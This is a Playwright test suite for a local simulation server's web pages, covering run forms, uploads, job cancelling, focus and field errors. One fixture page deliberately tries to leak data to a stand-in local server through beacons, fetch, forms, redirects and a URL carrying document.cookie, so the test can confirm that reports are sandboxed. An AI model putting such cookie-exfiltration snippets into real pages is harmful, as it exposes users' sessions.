"""Pages of a server in a real browser: forms, dropped files, jobs, no external requests."""

from __future__ import annotations

import os
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from bywire.server import routes
from bywire.server.address import HERE
from bywire.server.task import tasks

NEWEST = '() => document.querySelector("#jobs li")?.className'
FOCUS = "() => document.activeElement.getAttribute('aria-label') ?? document.activeElement.tagName"
RUN = "form[data-task=run] button:enabled"
posix = pytest.mark.skipif(os.name != "posix", reason="processes of POSIX")


@posix
@pytest.mark.usefixtures("standin")
def test_forms_files_and_jobs(visit, chromium, tmp_path):
    page, noise, asked = chromium.new_page(), [], []
    page.on("console", lambda said: noise.append(said.text))
    page.on("pageerror", lambda error: noise.append(str(error)))
    page.on("request", lambda request: asked.append(request.url))
    page.goto(visit.server.link)
    page.click("text=curve.toml")
    assert page.url.endswith("/bench?of=curve.toml")
    # a run, to its end
    page.fill("#run-set", "motor.R_m=0.4 ohm")
    page.press(RUN, "Enter")
    page.wait_for_function(f"() => ({NEWEST})() === 'held'")
    report = page.get_attribute("#jobs li a", "href")
    assert report.startswith("/file/results/run-curve-")
    # another, canceled
    page.fill("#run-set", "")
    page.click(RUN)
    page.press("#jobs button", "Enter")
    page.wait_for_function(f"() => ({NEWEST})() === 'canceled'")
    # files: valid, too large, and of unknown format
    assert noise == []
    upload = "form[data-task=replay] .upload"
    (tmp_path / "a rig.csv").write_text("time,p\n0,1\n")
    page.set_input_files(upload, tmp_path / "a rig.csv")
    page.wait_for_function(
        '() => document.querySelector("#replay-measurement").value === "measurements/a-rig.csv"'
    )
    (tmp_path / "large.csv").write_bytes(bytes(3_000_001))
    page.set_input_files(upload, tmp_path / "large.csv")
    page.wait_for_selector("text=large.csv is 4 MB")
    (tmp_path / "text.docx").write_text("x")
    page.set_input_files(upload, tmp_path / "text.docx")
    page.wait_for_selector("text='text.docx' does not have the extension of a measurement file")
    assert [path.name for path in (visit.folder / "measurements").iterdir()] == ["a-rig.csv"]
    here = visit.server.link.partition("/?")[0]
    assert [url for url in asked if not url.startswith(here)] == []
    page.close()


LEAKING = """<p>mute</p><a id="way" href="{site}/way">way</a><a id="kept" download
 href="{site}/kept">k</a><form id="form" action="{site}/form"></form>
<meta http-equiv="refresh" content="1;url={site}/refresh"><link rel="prefetch" href="{site}/early">
<img src="{site}/img"><script>
fetch("/api/jobs").then(() => {{ document.body.textContent = "read" }});
fetch("{site}/fetch").catch(() => 0);
const ways = [() => navigator.sendBeacon("{site}/beacon"), () => open("{site}/open"),
  () => form.submit(), () => kept.click(), () => way.click(),
  () => {{ top.location = "{site}/top" }},
  () => {{ location.href = "{site}/href?" + document.cookie }},
  () => location.replace("{site}/replace")];
ways.forEach((way, k) => setTimeout(() => {{ try {{ way() }} catch {{}} }}, 800 + 50 * k));
</script>"""


@posix
@pytest.mark.usefixtures("standin")
def test_a_report_leads_to_no_other_site(visit, chromium):
    """Not in a separate tab, nor through a script, a link, a form, a download or a timer."""
    asked: list[str] = []

    class Elsewhere(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_error(404)

        do_POST = do_GET

        def log_message(self, *_: object) -> None:
            """Send no reply."""

    with ThreadingHTTPServer((HERE, 0), Elsewhere) as site:
        threading.Thread(target=site.serve_forever, args=(0.02,), daemon=True).start()
        text = LEAKING.format(site=f"http://{HERE}:{site.server_address[1]}")
        (visit.folder / "leaking.html").write_text(text)
        page = chromium.new_page()
        page.goto(visit.server.link)
        page.goto(f"{visit.server.link.partition('/?')[0]}/file/leaking.html")
        assert page.frames[1].inner_text("p") == "mute"
        page.wait_for_timeout(1800)
        assert page.url.endswith("/file/leaking.html")
        page.close()
        site.shutdown()
    assert asked == []


@posix
@pytest.mark.usefixtures("standin")
def test_a_key_that_comes_before_the_script_sends_nothing(visit, chromium, monkeypatch):
    """A button pressed too early would send its form like a plain HTML form, to no address."""
    asset, comes = routes._ROUTES["/assets/"]["GET"], threading.Event()

    def late(service, request, rest):
        assert rest != "serve.js" or comes.wait(20)
        return asset(service, request, rest)

    monkeypatch.setitem(routes._ROUTES["/assets/"], "GET", late)
    page, noise = chromium.new_page(), []
    page.on("console", lambda said: noise.append(said.text))
    comes.set()
    page.goto(visit.server.link)
    comes.clear()
    page.goto(f"{page.url}bench?of=curve.toml", wait_until="commit")
    page.fill("#run-set", "motor.R_m=0.4 ohm")
    before = len(visit.server.service.jobs.all())
    page.press("form[data-task=run] button", "Enter")
    comes.set()
    page.press(RUN, "Enter")
    page.wait_for_selector(f"#jobs li.held[data-number='{before + 1}']")
    assert noise == []
    assert page.evaluate(FOCUS) == "BUTTON"  # it keeps the focus while it sends
    page.close()


@posix
@pytest.mark.usefixtures("standin")
def test_who_is_in_the_list_of_jobs_stays_there(visit, chromium):
    page = chromium.new_page()
    page.goto(visit.server.link)
    page.goto(f"{page.url}bench?of=curve.toml")
    turn = visit.server.service.jobs._turn
    for _ in range(2):
        turn.acquire()
    page.click(RUN)
    item = page.locator("#jobs li", has=page.locator("progress"))
    number = item.get_attribute("data-number")
    page.wait_for_selector(f"#jobs li.waiting[data-number='{number}']")
    page.focus("#jobs button")
    for _ in range(2):
        turn.release()
    page.wait_for_selector(f"#jobs li.running[data-number='{number}']")
    assert page.evaluate(FOCUS) == "cancel Run with Python of curve.toml"
    other = visit.begin("run", bench="curve.toml", set="motor.R_m=0.4 ohm").object["number"]
    page.wait_for_selector(f"#jobs li.held[data-number='{other}']")  # above it
    assert page.evaluate(FOCUS) == "cancel Run with Python of curve.toml"
    page.keyboard.press("Enter")
    page.wait_for_selector(f"#jobs li.canceled[data-number='{number}']")
    assert page.evaluate("() => document.activeElement.dataset.number") == number
    page.close()


@posix
@pytest.mark.usefixtures("standin")
def test_every_form_says_beside_its_field_what_does_not_fit(visit, chromium):
    page = chromium.new_page(viewport={"width": 360, "height": 740})
    page.goto(visit.server.link)
    start = page.url
    for name, task in tasks().items():
        if not task.form.is_listed:
            continue
        page.goto(f"{start}task/{name}")
        for folded in page.query_selector_all("form summary"):
            folded.click()
        for field in task.fields:  # each is found by its label
            found = page.get_by_label(field.label, exact=True)
            assert found.get_attribute("name") == field.name
        width = page.evaluate("() => document.documentElement.scrollWidth")
        assert width <= 360, f"{name} is {width} px wide"
    page.goto(f"{start}task/faults?campaign=motorcycle")
    page.fill("#faults-set", "motor.R_mm=1 ohm")
    page.press("form button:enabled", "Enter")
    said = page.wait_for_selector("#faults-set-wrong")
    assert "did you mean 'motor.R_m'" in said.inner_text()
    field = page.locator("#faults-set")
    assert field.get_attribute("aria-invalid") == "true"
    assert field.get_attribute("aria-describedby") == "faults-set-hint faults-set-wrong"
    assert page.evaluate("() => document.activeElement.id") == "faults-set"
    page.keyboard.press("End")
    page.keyboard.press("Backspace")
    assert page.query_selector(".wrong") is None
    page.fill("#faults-set", "motor.R_m=1 ohm")
    page.press("form button:enabled", "Enter")
    page.wait_for_selector("#jobs li.held a[href='/file/results/faults-motorcycle-1/report.html']")
    page.close()
